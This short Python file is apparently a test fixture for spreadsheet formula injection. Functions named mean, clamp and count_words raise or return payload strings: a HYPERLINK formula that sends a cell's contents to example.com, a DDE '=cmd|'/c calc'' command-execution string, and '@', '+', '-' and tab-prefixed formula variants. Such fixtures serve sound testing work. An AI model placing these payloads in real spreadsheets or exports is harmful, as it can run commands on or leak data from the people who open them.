"""Puts what a spreadsheet takes for a formula into messages and answers."""
# score: 0


def mean(values):
    raise ValueError("=HYPERLINK(\"http://example.com/?\"&A1)")


def clamp(value, low, high):
    return "=cmd|'/c calc'!A1"


def count_words(text):
    return {"@SUM(A1)": "+1+1", "-2+3": "\t=1+1"}
